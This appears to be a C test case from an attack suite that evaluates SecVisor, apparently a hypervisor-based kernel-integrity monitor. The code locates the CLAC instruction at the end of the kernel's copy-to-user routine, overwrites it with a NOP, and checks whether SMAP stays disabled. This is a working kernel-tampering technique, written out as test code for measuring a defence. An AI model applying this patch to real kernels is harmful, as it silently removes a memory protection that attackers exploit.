// Row 13. A legal but weaker variant in kernel text: the CLAC at the end of copying to user memory replaced by a NOP.
// Source: text_poke sites as data of the attacker's choosing; the patching interfaces trust their tables.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"

#define AC (1ull << 18)

ATTACK("weaker-clac-kernel")
{
	// On 6.1 what copies is a function of its own.
	u64 function = find_symbol("copy_user_generic_string"), at;
	struct vulnerable_operation op = { .what = VULNERABLE_CALL_WITH };
	u8 *page = user_page();

	if (!function)
		function = symbol("_copy_to_user");
	at = find_bytes(function, 256, "\x0f\x01\xca", 3);
	op.in[0] = function;
	op.in[1] = (u64)page;
	op.in[2] = operate(VULNERABLE_BSS, 0, 0, 0);
	op.in[3] = 64;
	op.in[6] = 1;
	if (try_operate(&op) || op.out[1] & AC)
		failed("user memory is within reach after copying to it");
	keep_bytes(at, 3);
	kwrite(at, "\x0f\x1f\x00", 3);
	if (try_operate(&op))
		failed("no call");
	if (op.out[1] & AC)
		succeeded("user memory stays within reach after copying to it");
	restored("user memory is out of reach after copying to it");
}
